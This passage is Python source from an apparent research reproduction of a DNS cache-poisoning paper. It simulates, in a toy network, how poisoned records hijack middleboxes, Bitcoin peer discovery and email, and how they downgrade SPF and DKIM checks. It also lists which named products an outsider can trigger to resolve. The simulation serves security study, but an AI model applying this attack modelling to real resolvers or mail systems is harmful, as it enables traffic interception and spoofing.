CACHE_TTL = "TTL"


@dataclass(frozen=True)
class MiddleboxProfile:
    """One product's query-trigger behaviour (a Table 2 row).

    ``caching_time`` is seconds for fixed timers, or the string "TTL"
    when the device honours the record TTL.  ``alexa_100k_sites`` is the
    paper's count of top-100K websites using the provider.
    """

    device_type: str
    provider: str
    trigger: str                  # "timer" | "on-demand"
    caching_time: float | str
    alexa_100k_sites: int | None = None

    @property
    def externally_triggerable(self) -> bool:
        """Can an external client force the DNS query right now?"""
        return self.trigger == TRIGGER_ON_DEMAND


# The twelve products of Table 2, with the paper's observed behaviour.
TABLE2_PROFILES: list[MiddleboxProfile] = [
    MiddleboxProfile("Firewall", "pfSense", TRIGGER_TIMER, 500.0, None),
    MiddleboxProfile("Firewall", "Sophos UTM", TRIGGER_TIMER, 240.0, None),
    MiddleboxProfile("Load balancer", "Kemp Technologies", TRIGGER_TIMER,
                     3600.0, None),
    MiddleboxProfile("Load balancer", "F5 Networks", TRIGGER_TIMER,
                     3600.0, None),
    MiddleboxProfile("CDN", "Stackpath", TRIGGER_ON_DEMAND, CACHE_TTL, 79),
    MiddleboxProfile("CDN", "Fastly", TRIGGER_TIMER, CACHE_TTL, 1143),
    MiddleboxProfile("CDN", "AWS", TRIGGER_ON_DEMAND, CACHE_TTL, 11057),
    MiddleboxProfile("CDN", "Cloudflare", TRIGGER_ON_DEMAND, CACHE_TTL,
                     17393),
    MiddleboxProfile("Managed DNS (ALIAS)", "DNSimple", TRIGGER_ON_DEMAND,
                     CACHE_TTL, 248),
    MiddleboxProfile("Managed DNS (ALIAS)", "DNS Made Easy", TRIGGER_TIMER,
                     2100.0, 1192),
    MiddleboxProfile("Managed DNS (ALIAS)", "Oracle Cloud",
                     TRIGGER_ON_DEMAND, CACHE_TTL, 1382),
    MiddleboxProfile("Managed DNS (ALIAS)", "Cloudflare", TRIGGER_ON_DEMAND,
                     CACHE_TTL, 20027),
]


class ResolvingMiddlebox:
    """Shared machinery: resolve a configured name per the profile.

    Concrete devices below differ in what they *do* with the address;
    the trigger/caching behaviour is uniform and measurable.
    """

    def __init__(self, stub: StubResolver, profile: MiddleboxProfile,
                 configured_name: str, record_ttl: float = 300.0):
        self.stub = stub
        self.profile = profile
        self.configured_name = configured_name
        self.record_ttl = record_ttl
        self.current_address: str | None = None
        self.last_refresh: float | None = None
        self.refreshes = 0

    def _cache_lifetime(self) -> float:
        if self.profile.caching_time == CACHE_TTL:
            return self.record_ttl
        return float(self.profile.caching_time)

    def _refresh(self) -> None:
        answer = self.stub.lookup(self.configured_name, "A")
        self.current_address = answer.first_address()
        self.last_refresh = self.stub.host.now
        self.refreshes += 1

    def needs_refresh(self, now: float) -> bool:
        """Whether the cached address has expired."""
        if self.last_refresh is None or self.current_address is None:
            return True
        return now - self.last_refresh >= self._cache_lifetime()

    def address(self, demand: bool = False) -> str | None:
        """The address the device currently uses.

        ``demand=True`` models client traffic arriving: on-demand
        devices refresh immediately if expired; timer devices serve the
        stale/cached answer and only refresh from :meth:`tick`.
        """
        now = self.stub.host.now
        if self.current_address is None \
                or (demand and self.profile.externally_triggerable
                    and self.needs_refresh(now)):
            self._refresh()
        return self.current_address

    def tick(self) -> bool:
        """The device's own timer; returns True if it refreshed."""
        now = self.stub.host.now
        if self.profile.trigger == TRIGGER_TIMER and self.needs_refresh(now):
            self._refresh()
            return True
        return False


class Firewall(Application):
    """A firewall resolving hostname-based allow rules on a timer."""

    row = Table1Row(
        category="Intermediate devices", protocol="-",
        use_case="Firewall filters", query_name=QUERY_CONFIG,
        query_known=False, trigger_method="waiting", record_types=["A"],
        dns_use=USE_LOCATION, impact="Downgrade: no filters",
    )

    def __init__(self, stub: StubResolver, profile: MiddleboxProfile,
                 allowed_name: str):
        self.box = ResolvingMiddlebox(stub, profile, allowed_name)

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def permits(self, destination: str) -> bool:
        """Is traffic to ``destination`` allowed by the hostname rule?"""
        return self.box.address() == destination

    def tick(self) -> bool:
        """Periodic rule refresh."""
        return self.box.tick()


class LoadBalancer(Application):
    """A load balancer resolving its backend pool hostname."""

    row = Table1Row(
        category="Intermediate devices", protocol="HTTP/...",
        use_case="Loadbalancers", query_name=QUERY_CONFIG,
        query_known=False, trigger_method="on-demand", record_types=["A"],
        dns_use=USE_LOCATION, impact="Hijack: eavesdropping",
    )

    def __init__(self, stub: StubResolver, profile: MiddleboxProfile,
                 backend_name: str):
        self.box = ResolvingMiddlebox(stub, profile, backend_name)
        self.forwarded: list[str] = []

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def route_request(self) -> AppOutcome:
        """Forward one client request to the resolved backend."""
        backend = self.box.address(demand=True)
        if backend is None:
            return AppOutcome(app="loadbalancer", action="route", ok=False,
                              detail={"error": "backend did not resolve"})
        self.forwarded.append(backend)
        return AppOutcome(app="loadbalancer", action="route", ok=True,
                          used_address=backend)

    def tick(self) -> bool:
        """Periodic pool refresh (for timer-based products)."""
        return self.box.tick()


class CdnEdge(Application):
    """A CDN edge fetching from a customer origin by hostname."""

    row = Table1Row(
        category="Intermediate devices", protocol="HTTP",
        use_case="CDN's", query_name=QUERY_CONFIG, query_known=False,
        trigger_method="on-demand", record_types=["A"],
        dns_use=USE_LOCATION, impact="Hijack: eavesdropping",
    )

    def __init__(self, stub: StubResolver, profile: MiddleboxProfile,
                 origin_name: str):
        self.box = ResolvingMiddlebox(stub, profile, origin_name)
        self.origin_fetches: list[str] = []

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def fetch_from_origin(self, path: str) -> AppOutcome:
        """A cache miss: fetch ``path`` from the resolved origin."""
        origin = self.box.address(demand=True)
        if origin is None:
            return AppOutcome(app="cdn", action="origin-fetch", ok=False,
                              detail={"error": "origin did not resolve"})
        self.origin_fetches.append(origin)
        return AppOutcome(app="cdn", action="origin-fetch", ok=True,
                          used_address=origin, detail={"path": path})

    def tick(self) -> bool:
        """Periodic origin re-resolution (timer products, e.g. Fastly)."""
        return self.box.tick()


class AliasProvider(Application):
    """Managed-DNS ALIAS/ANAME flattening: the provider resolves for you."""

    row = Table1Row(
        category="Intermediate devices", protocol="DNS",
        use_case="ANAME/ALIAS", query_name=QUERY_CONFIG,
        query_known=False, trigger_method="on-demand", record_types=["A"],
        dns_use=USE_LOCATION, impact="Hijack: eavesdropping",
    )

    def __init__(self, stub: StubResolver, profile: MiddleboxProfile,
                 alias_target: str):
        self.box = ResolvingMiddlebox(stub, profile, alias_target)

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def answer_client(self) -> str | None:
        """The A record the provider serves for the ALIAS name."""
        return self.box.address(demand=True)

    def tick(self) -> bool:
        """Periodic re-resolution (timer products, e.g. DNS Made Easy)."""
        return self.box.tick()


class Proxy(Application):
    """An HTTP/SOCKS proxy resolving the client's target per request."""

    row = Table1Row(
        category="Intermediate devices", protocol="HTTP/Socks",
        use_case="Proxies", query_name=QUERY_TARGET, query_known=True,
        trigger_method="direct", record_types=["A"],
        dns_use=USE_LOCATION, impact="Hijack: eavesdropping",
    )

    def __init__(self, stub: StubResolver):
        self.stub = stub
        self.connections: list[tuple[str, str]] = []

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def connect(self, hostname: str) -> AppOutcome:
        """Resolve the requested hostname and open the upstream leg."""
        answer = self.stub.lookup(hostname, "A")
        address = answer.first_address()
        if address is None:
            return AppOutcome(app="proxy", action="connect", ok=False,
                              detail={"error": f"NXDOMAIN {hostname}"})
        self.connections.append((hostname, address))
        return AppOutcome(app="proxy", action="connect", ok=True,
                          used_address=address)


# -- kill-chain drivers --------------------------------------------------------


class FirewallDriver(AppDriver):
    """A hostname allow-rule resolving to the attacker admits its traffic."""

    name = "firewall"
    application = Firewall

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        profile = params.get("profile", TABLE2_PROFILES[0])  # pfSense
        ctx["firewall"] = Firewall(ctx["stub"], profile,
                                   allowed_name=qname)
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        firewall = ctx["firewall"]
        admits_attacker = firewall.permits(ctx["malicious_ip"])
        admits_genuine = firewall.permits(ctx["genuine_ip"])
        return (AppOutcome(
            app="firewall", action="filter", ok=not admits_attacker,
            security_degraded=admits_attacker,
            used_address=firewall.box.current_address,
            detail={"admits_attacker": admits_attacker,
                    "admits_genuine": admits_genuine},
        ),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        # The rule meant to whitelist the genuine service now admits the
        # attacker's host instead: the filter is effectively gone.
        return outcomes[0].detail.get("admits_attacker", False)


class LoadBalancerDriver(AppDriver):
    """Client requests forwarded to the attacker's backend."""

    name = "loadbalancer"
    application = LoadBalancer

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        profile = params.get("profile", TABLE2_PROFILES[3])  # F5
        ctx["balancer"] = LoadBalancer(ctx["stub"], profile,
                                       backend_name=qname)
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        return (ctx["balancer"].route_request(),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        routed = outcomes[0]
        return routed.ok and routed.used_address == ctx["malicious_ip"]


class CdnDriver(AppDriver):
    """Edge cache misses fetched from the attacker's "origin"."""

    name = "cdn"
    application = CdnEdge

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        profile = params.get("profile", TABLE2_PROFILES[6])  # AWS
        ctx["edge"] = CdnEdge(ctx["stub"], profile, origin_name=qname)
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        return (ctx["edge"].fetch_from_origin("/index.html"),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        fetched = outcomes[0]
        return fetched.ok and fetched.used_address == ctx["malicious_ip"]


class AliasDriver(AppDriver):
    """ALIAS flattening serves the attacker's address to every client."""

    name = "alias"
    application = AliasProvider

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        profile = params.get("profile", TABLE2_PROFILES[8])  # DNSimple
        ctx["provider"] = AliasProvider(ctx["stub"], profile,
                                        alias_target=qname)
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        served = ctx["provider"].answer_client()
        return (AppOutcome(
            app="alias", action="flatten", ok=served is not None,
            used_address=served,
            detail={"alias_target": ctx["qname"]},
        ),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        served = outcomes[0]
        return served.ok and served.used_address == ctx["malicious_ip"]


class ProxyDriver(AppDriver):
    """Per-request proxy resolution lands the upstream leg on the attacker."""

    name = "proxy"
    application = Proxy

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        ctx["proxy"] = Proxy(ctx["stub"])
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        return (ctx["proxy"].connect(ctx["qname"]),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        connected = outcomes[0]
        return connected.ok \
            and connected.used_address == ctx["malicious_ip"]


register_driver(FirewallDriver())
register_driver(LoadBalancerDriver())
register_driver(CdnDriver())
register_driver(AliasDriver())
register_driver(ProxyDriver())
