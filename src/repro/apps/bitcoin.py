"""Bitcoin peer discovery via DNS seeds (Table 1, Crypto-currency row).

New Bitcoin nodes bootstrap their peer set from well-known DNS seed
names.  Poisoning the seed's A records lets the attacker become *all* of
the node's peers — an eclipse — after which the node follows whatever
chain the attacker serves ("Hijack: fake blockchain", cf. Apostolaki et
al. [16] in the paper).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.apps.base import (
    Application,
    AppOutcome,
    QUERY_KNOWN,
    Table1Row,
    USE_LOCATION,
)
from repro.apps.driver import AppDriver, host_at, register_driver
from repro.attacks.planner import TargetProfile
from repro.dns.records import TYPE_A
from repro.dns.stub import StubResolver
from repro.netsim.host import Host

P2P_PORT = 8333
WELL_KNOWN_SEED = "seed.bitcoin.sipa.be"


@dataclass
class ChainTip:
    """The tip a peer advertises: height plus a chain identity tag."""

    height: int
    chain_id: str


class BitcoinPeer:
    """A full node answering handshakes with its chain tip."""

    def __init__(self, host: Host, tip: ChainTip):
        self.host = host
        self.tip = tip
        self.handshakes = 0
        host.stream_handlers[P2P_PORT] = self._handshake

    def _handshake(self, payload: bytes, src: str) -> bytes:
        self.handshakes += 1
        return f"{self.tip.height}:{self.tip.chain_id}".encode("ascii")


class BitcoinNode(Application):
    """A bootstrapping node: DNS seed → peers → adopt the best chain."""

    row = Table1Row(
        category="Crypto-currency", protocol="Bitcoin",
        use_case="Peer discovery", query_name=QUERY_KNOWN,
        query_known=True, trigger_method="waiting", record_types=["A"],
        dns_use=USE_LOCATION, impact="Hijack: fake blockchain",
    )

    def __init__(self, host: Host, stub: StubResolver,
                 seed_name: str = WELL_KNOWN_SEED, max_peers: int = 8):
        self.host = host
        self.stub = stub
        self.seed_name = seed_name
        self.max_peers = max_peers
        self.peers: list[str] = []
        self.tip: ChainTip | None = None

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def bootstrap(self) -> AppOutcome:
        """Resolve the DNS seed and take the returned addresses as peers."""
        answer = self.stub.lookup(self.seed_name, TYPE_A)
        addresses = answer.addresses()[: self.max_peers]
        if not addresses:
            return AppOutcome(app="bitcoin", action="bootstrap", ok=False,
                              detail={"error": "seed did not resolve"})
        self.peers = addresses
        return AppOutcome(app="bitcoin", action="bootstrap", ok=True,
                          detail={"peers": list(addresses)})

    def sync_chain(self) -> AppOutcome:
        """Handshake all peers and adopt the highest advertised tip."""
        if not self.peers:
            bootstrap = self.bootstrap()
            if not bootstrap.ok:
                return bootstrap
        network = self.host.network
        assert network is not None
        tips: list[tuple[str, ChainTip]] = []
        for peer in self.peers:
            box: dict[str, bytes | None] = {}
            network.stream_request(self.host, peer, P2P_PORT, b"version",
                                   lambda data, b=box: b.update(data=data))
            deadline = network.now + 2.0
            while "data" not in box and network.now < deadline:
                if not network.scheduler.run_next():
                    break
            data = box.get("data")
            if not data:
                continue
            try:
                height_text, chain_id = data.decode("ascii").split(":", 1)
                tips.append((peer, ChainTip(int(height_text), chain_id)))
            except ValueError:
                continue
        if not tips:
            return AppOutcome(app="bitcoin", action="sync", ok=False,
                              detail={"error": "no peer responded"})
        best_peer, best_tip = max(tips, key=lambda item: item[1].height)
        self.tip = best_tip
        eclipsed = len({chain for _peer, chain in tips
                        if chain.chain_id != best_tip.chain_id}) == 0
        return AppOutcome(
            app="bitcoin", action="sync", ok=True, used_address=best_peer,
            detail={
                "height": best_tip.height,
                "chain_id": best_tip.chain_id,
                "peers_responding": len(tips),
                "single_chain_view": eclipsed,
            },
        )


# -- kill-chain driver ---------------------------------------------------------


class BitcoinDriver(AppDriver):
    """Seed poisoning eclipses the node onto the attacker's chain."""

    name = "bitcoin"
    application = BitcoinNode

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        BitcoinPeer(host_at(world, ctx["genuine_ip"], "btc-origin"),
                    ChainTip(800_000, "main"))
        BitcoinPeer(host_at(world, malicious_ip, "evil-btc"),
                    ChainTip(800_001, "attacker-fork"))
        ctx["node"] = BitcoinNode(ctx["app_host"], ctx["stub"],
                                  seed_name=qname)
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        bootstrap = ctx["node"].bootstrap()
        if not bootstrap.ok:
            return (bootstrap,)
        return (bootstrap, ctx["node"].sync_chain())

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        if len(outcomes) < 2 or not outcomes[1].ok:
            return False
        sync = outcomes[1]
        # All peers came from the poisoned seed: the node sees a single,
        # attacker-authored view of the chain.
        return sync.detail.get("chain_id") == "attacker-fork" \
            and sync.detail.get("single_chain_view", False)


register_driver(BitcoinDriver())
