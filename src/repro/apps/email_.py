"""Email: SMTP delivery, bounce triggering, SPF/DKIM/DMARC (Table 1).

Three attack surfaces from the paper live here:

* **SMTP delivery** ("Hijack: eavesdropping") — MX/A poisoning redirects
  outgoing mail to the attacker.
* **Bounce triggering** (§4.3.1) — mail to a non-existent recipient
  makes the server send a Delivery Status Notification, which requires
  resolving the *sender's* (attacker-chosen) domain: the classic
  external query trigger.
* **Anti-spam downgrade** ("Downgrade: spoofing") — SPF, DKIM and DMARC
  consult TXT records; both SPF and DMARC fail *open* when no record is
  found, so deleting/replacing the record via poisoning makes spoofed
  mail pass (§4.5, "secure fallback" discussion in §6.2).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.apps.base import (
    Application,
    AppOutcome,
    QUERY_TARGET,
    Table1Row,
    USE_AUTHORISATION,
    USE_FEDERATION,
)
from repro.apps.driver import AppDriver, host_at, register_driver
from repro.attacks.planner import TargetProfile
from repro.dns.records import TYPE_MX, TYPE_TXT
from repro.dns.stub import StubResolver
from repro.netsim.host import Host

SMTP_PORT = 25


@dataclass
class Email:
    """One mail message."""

    sender: str
    recipient: str
    body: str
    source_address: str = ""        # connecting SMTP client address
    dkim_domain: str | None = None  # domain that (claims to have) signed
    dkim_key_id: str | None = None  # key the signature verifies against
    is_bounce: bool = False

    @property
    def sender_domain(self) -> str:
        """Domain part of the sender address."""
        return self.sender.rsplit("@", 1)[-1].lower()

    @property
    def recipient_domain(self) -> str:
        """Domain part of the recipient address."""
        return self.recipient.rsplit("@", 1)[-1].lower()


def _encode_mail(mail: Email) -> bytes:
    fields = [mail.sender, mail.recipient, mail.dkim_domain or "",
              mail.dkim_key_id or "", "1" if mail.is_bounce else "0",
              mail.body]
    return "\x00".join(fields).encode("utf-8")


def _decode_mail(payload: bytes, source_address: str) -> Email:
    (sender, recipient, dkim_domain, dkim_key_id, bounce,
     body) = payload.decode("utf-8").split("\x00", 5)
    return Email(sender=sender, recipient=recipient, body=body,
                 source_address=source_address,
                 dkim_domain=dkim_domain or None,
                 dkim_key_id=dkim_key_id or None,
                 is_bounce=bounce == "1")


@dataclass
class SpamPolicy:
    """Which anti-spam checks the receiving server enforces."""

    check_spf: bool = True
    check_dkim: bool = True
    check_dmarc: bool = True
    # RFC 7208: "none" results (no SPF record) do not reject — this
    # fail-open default is exactly what the downgrade attack exploits.
    fail_open_on_missing: bool = True


class SmtpServer(Application):
    """A mail server for one domain: sends, receives, bounces, filters."""

    row = Table1Row(
        category="Email", protocol="SMTP", use_case="Mail",
        query_name=QUERY_TARGET, query_known=True,
        trigger_method="direct/bounce", record_types=["A", "MX"],
        dns_use=USE_FEDERATION, impact="Hijack: eavesdropping",
    )

    def __init__(self, host: Host, stub: StubResolver, domain: str,
                 users: list[str] | None = None,
                 policy: SpamPolicy | None = None,
                 dkim_keys: dict[str, str] | None = None):
        self.host = host
        self.stub = stub
        self.domain = domain.lower()
        self.users = set(users or [])
        self.policy = policy if policy is not None else SpamPolicy()
        # Published DKIM keys of *this* domain (selector -> key id).
        self.dkim_keys = dkim_keys or {}
        self.inboxes: dict[str, list[Email]] = {}
        self.outcomes: list[AppOutcome] = []
        self.bounces_sent = 0
        host.stream_handlers[SMTP_PORT] = self._accept

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    # -- sending ---------------------------------------------------------------

    def resolve_mx(self, domain: str) -> str | None:
        """MX → A resolution of the receiving server for ``domain``."""
        mx = self.stub.lookup(domain, TYPE_MX)
        exchange = None
        best_pref = None
        for record in mx.records:
            if record.rtype == TYPE_MX:
                preference, hostname = record.data
                if best_pref is None or preference < best_pref:
                    best_pref, exchange = preference, hostname
        if exchange is None:
            exchange = domain  # implicit MX (RFC 5321 §5.1)
        answer = self.stub.lookup(exchange, "A")
        return answer.first_address()

    def send(self, mail: Email) -> AppOutcome:
        """Deliver ``mail`` to the recipient domain's mail exchanger."""
        address = self.resolve_mx(mail.recipient_domain)
        if address is None:
            outcome = AppOutcome(
                app="smtp", action="send", ok=False,
                detail={"error": f"no MX for {mail.recipient_domain}"},
            )
            self.outcomes.append(outcome)
            return outcome
        network = self.host.network
        assert network is not None
        box: dict[str, bytes | None] = {}
        mail.source_address = self.host.address
        network.stream_request(self.host, address, SMTP_PORT,
                               _encode_mail(mail),
                               lambda data: box.update(data=data))
        deadline = network.now + 3.0
        while "data" not in box and network.now < deadline:
            if not network.scheduler.run_next():
                break
        accepted = box.get("data") in (b"250 OK", b"250 BOUNCED")
        outcome = AppOutcome(
            app="smtp", action="send", ok=accepted, used_address=address,
            detail={"recipient": mail.recipient,
                    "response": (box.get("data") or b"").decode("utf-8",
                                                                "replace")},
        )
        self.outcomes.append(outcome)
        return outcome

    # -- receiving ----------------------------------------------------------------

    def _accept(self, payload: bytes, src: str) -> bytes:
        mail = _decode_mail(payload, src)
        verdict = self.filter_inbound(mail)
        if not verdict.ok:
            return b"550 rejected"
        user = mail.recipient.rsplit("@", 1)[0]
        if user not in self.users:
            if not mail.is_bounce:
                self._send_bounce(mail)
                return b"250 BOUNCED"
            return b"550 no such user"
        self.inboxes.setdefault(user, []).append(mail)
        return b"250 OK"

    def _send_bounce(self, original: Email) -> None:
        """Delivery Status Notification back to the (alleged) sender.

        Resolving the sender's domain here is the paper's §4.3.1 bounce
        trigger: the sender address — and therefore the queried name —
        is chosen by whoever sent the undeliverable mail.
        """
        self.bounces_sent += 1
        bounce = Email(
            sender=f"mailer-daemon@{self.domain}",
            recipient=original.sender,
            body=f"Undeliverable: no user {original.recipient}",
            is_bounce=True,
        )
        self.send(bounce)

    # -- anti-spam ---------------------------------------------------------------

    def filter_inbound(self, mail: Email) -> AppOutcome:
        """Apply SPF, DKIM and DMARC; record downgrades.

        The security_degraded flag is set when a check was configured
        but could not run because the DNS record was missing — the
        fail-open path the paper's downgrade attack forces.
        """
        degraded = False
        if self.policy.check_spf:
            spf = self._spf_verdict(mail)
            if spf == "fail":
                return AppOutcome(app="smtp", action="filter", ok=False,
                                  detail={"reason": "SPF fail"})
            degraded = degraded or spf == "none"
        if self.policy.check_dkim and mail.dkim_domain:
            dkim = self._dkim_verdict(mail)
            if dkim == "fail":
                return AppOutcome(app="smtp", action="filter", ok=False,
                                  detail={"reason": "DKIM fail"})
            degraded = degraded or dkim == "none"
        if self.policy.check_dmarc:
            dmarc = self._dmarc_policy(mail.sender_domain)
            degraded = degraded or dmarc == "none"
        return AppOutcome(app="smtp", action="filter", ok=True,
                          security_degraded=degraded)

    def _spf_verdict(self, mail: Email) -> str:
        answer = self.stub.lookup(mail.sender_domain, TYPE_TXT)
        spf_records = [
            r.data for r in answer.records
            if r.rtype == TYPE_TXT and str(r.data).startswith("v=spf1")
        ]
        if not spf_records:
            return "none" if self.policy.fail_open_on_missing else "fail"
        record = spf_records[0]
        if "+all" in record:
            return "pass"
        allowed = [
            token[len("ip4:"):] for token in record.split()
            if token.startswith("ip4:")
        ]
        return "pass" if mail.source_address in allowed else "fail"

    def _dkim_verdict(self, mail: Email) -> str:
        answer = self.stub.lookup(
            f"default._domainkey.{mail.dkim_domain}", TYPE_TXT
        )
        keys = [
            str(r.data).removeprefix("k=")
            for r in answer.records if r.rtype == TYPE_TXT
        ]
        if not keys:
            return "none"
        return "pass" if mail.dkim_key_id in keys else "fail"

    def _dmarc_policy(self, domain: str) -> str:
        answer = self.stub.lookup(f"_dmarc.{domain}", TYPE_TXT)
        for record in answer.records:
            if record.rtype == TYPE_TXT and "p=" in str(record.data):
                return str(record.data).split("p=", 1)[1].split(";")[0]
        return "none"


class SpfApplication(Application):
    """Table 1 row object for the SPF/DMARC anti-spam use-case."""

    row = Table1Row(
        category="Email", protocol="SPF,DMARC", use_case="Anti-Spam",
        query_name=QUERY_TARGET, query_known=True,
        trigger_method="authentication", record_types=["TXT"],
        dns_use=USE_AUTHORISATION, impact="Downgrade: spoofing",
    )

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)


class DkimApplication(Application):
    """Table 1 row object for the DKIM integrity use-case."""

    row = Table1Row(
        category="Email", protocol="DKIM", use_case="Integrity Checking",
        query_name=QUERY_TARGET, query_known=True,
        trigger_method="direct/bounce", record_types=["TXT"],
        dns_use=USE_AUTHORISATION, impact="Downgrade: spoofing",
    )

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)


# -- kill-chain drivers --------------------------------------------------------


class SmtpDriver(AppDriver):
    """Outgoing mail follows the poisoned (implicit-)MX route."""

    name = "smtp"
    application = SmtpServer

    def _accept_all(self) -> SpamPolicy:
        return SpamPolicy(check_spf=False, check_dkim=False,
                          check_dmarc=False)

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        bed = ctx["testbed"]
        ctx["sender"] = SmtpServer(ctx["app_host"], ctx["stub"],
                                   "sender.example", users=["alice"],
                                   policy=self._accept_all())
        genuine_host = host_at(world, ctx["genuine_ip"], "mail-origin")
        ctx["genuine_mail"] = SmtpServer(
            genuine_host,
            StubResolver(genuine_host, ctx["resolver_ip"],
                         rng=bed.rng.derive("app-stub-genuine")),
            qname, users=["bob"], policy=self._accept_all())
        evil_host = host_at(world, malicious_ip, "evil-mail")
        ctx["evil_mail"] = SmtpServer(
            evil_host,
            StubResolver(evil_host, ctx["resolver_ip"],
                         rng=bed.rng.derive("app-stub-evil")),
            qname, users=["bob"], policy=self._accept_all())
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        mail = Email(sender="alice@sender.example",
                     recipient=f"bob@{ctx['qname']}",
                     body="confidential contract")
        return (ctx["sender"].send(mail),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        sent = outcomes[0]
        # Interception: the sender believes delivery succeeded, but the
        # mail sits in the attacker's inbox, not the genuine server's.
        return sent.ok and sent.used_address == ctx["malicious_ip"] \
            and bool(ctx["evil_mail"].inboxes.get("bob"))


class SpfDriver(AppDriver):
    """Poisoning away the SPF TXT record forces the fail-open path.

    FragDNS can only rewrite A rdata, so the TXT replacement this
    workload observes is plantable by HijackDNS and SadDNS forgeries
    only.
    """

    name = "spf"
    application = SpfApplication
    methods = ("HijackDNS", "SadDNS")

    def malicious_records(self, qname: str, attacker_ip: str):
        from repro.dns.records import rr_a, rr_txt

        return (rr_a(qname, attacker_ip, ttl=86400),
                rr_txt(qname, "spf-record-replaced-by-attacker", ttl=86400))

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        from repro.dns.records import rr_txt

        ctx = self.base_ctx(world, qname, malicious_ip)
        world["target"].zone.add(
            rr_txt(qname, f"v=spf1 ip4:{ctx['genuine_ip']} -all", ttl=300))
        ctx["receiver"] = SmtpServer(
            ctx["app_host"], ctx["stub"], "corp.example", users=["alice"],
            policy=SpamPolicy(check_spf=True, check_dkim=False,
                              check_dmarc=False))
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        spoofed = Email(sender=f"ceo@{ctx['qname']}",
                        recipient="alice@corp.example",
                        body="please wire the money",
                        source_address=ctx["malicious_ip"])
        return (ctx["receiver"].filter_inbound(spoofed),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        verdict = outcomes[0]
        # The spoofed mail passes because the check could not run — the
        # fail-open downgrade, visible as ok + security_degraded.
        return verdict.ok and verdict.security_degraded


class DkimDriver(AppDriver):
    """Substituting the published DKIM key makes forged signatures pass."""

    name = "dkim"
    application = DkimApplication
    methods = ("HijackDNS", "SadDNS")

    def malicious_records(self, qname: str, attacker_ip: str):
        from repro.dns.records import rr_a, rr_txt

        return (rr_a(qname, attacker_ip, ttl=86400),
                rr_txt(f"default._domainkey.{qname}", "k=attacker-key",
                       ttl=86400))

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        from repro.dns.records import rr_txt

        ctx = self.base_ctx(world, qname, malicious_ip)
        world["target"].zone.add(
            rr_txt(f"default._domainkey.{qname}", "k=genuine-key", ttl=300))
        ctx["receiver"] = SmtpServer(
            ctx["app_host"], ctx["stub"], "corp.example", users=["alice"],
            policy=SpamPolicy(check_spf=False, check_dkim=True,
                              check_dmarc=False))
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        forged = Email(sender=f"newsletter@{ctx['qname']}",
                       recipient="alice@corp.example",
                       body="forged but 'signed'",
                       source_address=ctx["malicious_ip"],
                       dkim_domain=ctx["qname"],
                       dkim_key_id="attacker-key")
        return (ctx["receiver"].filter_inbound(forged),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        # Integrity checking verified the attacker's signature against
        # the attacker's planted key: the forged mail is accepted.
        return outcomes[0].ok


register_driver(SmtpDriver())
register_driver(SpfDriver())
register_driver(DkimDriver())
