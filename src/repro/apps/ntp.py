"""NTP time synchronisation (Table 1, Sync row).

The NTP client resolves a well-known pool name (``pool.ntp.org``); the
attacker cannot choose the name but knows it, and queries recur on the
client's own schedule ("waiting" trigger).  A poisoned A record points
the client at an attacker server that serves an arbitrary clock —
